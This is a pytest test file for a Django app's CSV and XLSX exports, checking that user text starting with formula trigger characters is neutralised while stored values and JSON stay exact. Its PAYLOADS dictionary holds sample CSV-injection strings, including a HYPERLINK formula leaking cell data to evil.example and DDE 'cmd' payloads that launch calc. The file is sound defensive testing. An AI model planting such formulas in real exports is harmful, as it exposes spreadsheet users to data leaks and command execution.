"""No export lets a spreadsheet run a user's text as a formula; the stored value and JSON stay exact.

Each file export (API CSV for lists and single objects, the entry template as CSV and XLSX) is
checked with a comment/name starting with each trigger character (OWASP CSV injection).
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lkt.spreadsheet import neutralise_formula, template_cell_text, template_cell_value
from measures.charts import chart_results_recompute_stale
from measures.models import ChartResult, Measurement
from teams.services import api_token_create

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TRIGGERS = list(PAYLOADS)


def test_the_helper_prefixes_only_triggers_and_leaves_plain_numbers():
    assert neutralise_formula("=1+1") == "'=1+1"
    assert neutralise_formula("God måned") == "God måned"
    assert neutralise_formula("-12.5") == "-12.5"  # a number cannot be a formula
    assert neutralise_formula("-1+2") == "'-1+2"
    assert neutralise_formula("") == ""


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "'=x", "''", "'", "ok", "'ok", "-5"])
def test_template_cells_round_trip_exactly(text):
    assert template_cell_value(template_cell_text(text)) == text
    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert template_cell_text(text).startswith("'")


def _measurement_with_comment(world, text: str) -> Measurement:
    measurement = Measurement.objects.get(
        team=world.team_a, indicator=world.indicator, period=date(2024, 1, 1)
    )
    measurement.comment = text
    measurement.save()
    return measurement


def _token_client(world) -> Client:
    _token, raw = api_token_create(
        network=world.network,
        name="BI",
        region=None,
        write_team=None,
        expires_at=None,
        user=world.national_lead,
    )
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}")


def _csv_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_api_measurement_csv_neutralises_the_comment_and_json_stays_exact(world, trigger):
    text = PAYLOADS[trigger]
    measurement = _measurement_with_comment(world, text)
    client = _token_client(world)
    rows = _csv_rows(client.get(reverse("api-v1:measurement-list") + "?format=csv"))
    row = next(r for r in rows if r["uuid"] == str(measurement.uuid))
    assert row["comment"] == "'" + text
    assert Decimal(row["numerator"]) == measurement.numerator  # numbers untouched
    data = client.get(reverse("api-v1:measurement-detail", kwargs={"uuid": measurement.uuid})).json()
    assert data["comment"] == text
    measurement.refresh_from_db()
    assert measurement.comment == text


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_csv_renderer_for_single_objects_neutralises_text(trigger):
    from lkt.api import CSVRenderer

    body = CSVRenderer().render({"comment": PAYLOADS[trigger], "value": Decimal("-2")}).decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert row == {"comment": "'" + PAYLOADS[trigger], "value": "-2"}


def test_api_csv_keeps_negative_numbers_as_numbers(world):
    from lkt.api import csv_cell

    assert csv_cell(Decimal("-1.50")) == "-1.5"
    assert csv_cell(-3) == "-3"
    assert csv_cell(-0.5) == "-0.5"
    assert csv_cell("-0.5") == "-0.5"


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_api_chart_point_csv_neutralises_team_names(world, trigger):
    text = PAYLOADS[trigger]
    world.team_a.name = text
    world.team_a.save()
    chart_results_recompute_stale(network=world.network)
    assert ChartResult.objects.filter(team=world.team_a).exists()
    client = _token_client(world)
    rows = _csv_rows(client.get(reverse("api-v1:chart-result-list") + "?format=csv"))
    names = {r["team_name"] for r in rows if r["team_uuid"] == str(world.team_a.uuid)}
    assert names == {"'" + text}
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_template_neutralises_and_reads_back_the_stored_comment(world, client_for, trigger):
    text = PAYLOADS[trigger]
    measurement = _measurement_with_comment(world, text)
    client = client_for(world.data_entry)
    url = reverse("measures:entry-template", kwargs={"team_uuid": world.team_a.uuid})
    body = client.get(url).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    january = next(r for r in rows if r[0] == world.indicator.code and r[1] == "2024-01")
    assert january[4] == "'" + text
    # Uploading the template again changes nothing: the apostrophe is read back off.
    preview = client.post(
        reverse("measures:entry-upload", kwargs={"team_uuid": world.team_a.uuid}),
        {"file": SimpleUploadedFile("skabelon.csv", body.encode("utf-8")), "indicator": ""},
    )
    assert preview.status_code == 200, preview.content[:2000]
    (row,) = [
        r
        for r in preview.context["parsed"].rows
        if r.period == date(2024, 1, 1) and r.indicator_code == "ddd"
    ]
    # Upload trims whitespace around comments (as always); the apostrophe itself never stays.
    assert row.comment == text.strip()
    assert preview.context["changed"] == (0 if text == text.strip() else 1)
    measurement.refresh_from_db()
    assert measurement.comment == text


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_template_writes_text_never_formulas(world, client_for, trigger):
    text = PAYLOADS[trigger]
    _measurement_with_comment(world, text)
    client = client_for(world.data_entry)
    url = reverse("measures:entry-template", kwargs={"team_uuid": world.team_a.uuid}) + "?format=xlsx"
    content = client.get(url).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value == world.indicator.code]
    january = next(row for row in cells if row[1].value == "2024-01")
    comment = january[4]
    assert comment.data_type == "s" and comment.value == text  # a string, the exact stored text
    assert comment.quotePrefix
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # Uploading it again changes nothing.
    preview = client.post(
        reverse("measures:entry-upload", kwargs={"team_uuid": world.team_a.uuid}),
        {"file": SimpleUploadedFile("skabelon.xlsx", content), "indicator": ""},
    )
    assert preview.status_code == 200
    assert preview.context["changed"] == (0 if text == text.strip() else 1)
